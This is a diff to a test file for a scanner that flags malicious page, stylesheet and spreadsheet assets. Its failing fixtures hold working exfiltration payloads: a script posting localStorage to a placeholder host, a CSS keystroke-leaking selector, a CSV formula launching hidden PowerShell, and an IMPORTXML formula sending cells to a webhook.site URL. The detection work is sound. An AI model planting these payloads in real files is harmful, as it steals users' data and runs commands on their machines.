@@ -66,7 +66,7 @@ describe('a page, a picture or a table', () => {
     ['a.html', `<script>fetch("${HOST}/c",{method:"POST",body:JSON.stringify(localStorage)})</script>`],
     ['a.css', ['a', 'b', 'c'].map((letter) => `input[value^="${letter}"]{background:url(${HOST}/k?${letter})}`).join('\n')],
     ['a.csv', "name,total\n=cmd|'/C powershell -w hidden'!A0,5\n"],
-    ['a.csv', `name\n"=IMPORTXML(CONCAT(""${HOST}/?v="",A2:E2),""//a"")"\n`],
+    ['a.csv', 'name\n"=IMPORTXML(CONCAT(""https://webhook.site/1/?v="",A2:E2),""//a"")"\n'],
   ])('fails when it gives away or fetches: %s', (path, text) => {
     expect(judged(`assets/${path}`, text).verdict).toBe('FAIL');
   });
@@ -80,6 +80,7 @@ describe('a page, a picture or a table', () => {
     ['a.html', '<meta http-equiv="refresh" content="0; url=./docs/index.html">'],
     ['a.html', '<form action="/login" method="post"><input type="password"></form>'],
     ['a.html', '<script>a.href=URL.createObjectURL(new Blob([d]));a.download="report.csv";a.click()</script>'],
+    ['a.html', '<script src="jszip.js"></script><script>a.href=URL.createObjectURL(new Blob([b]));a.download="site.zip"</script>'],
     ['a.html', '<h1>Acme: sign in</h1><form action="https://app.acme-forms.net/l"><input type="password"></form>'],
     ['a.css', 'input[type="text"]{background:url(https://cdn.acme-forms.net/a.png)}'],
     ['a.csv', 'name,total,delta\nAnna,5,+3\nBob,7,-2\n=SUM(B2:B3),,\n"=HYPERLINK(""https://www.contoso.com"",""Site"")",1,2\n'],
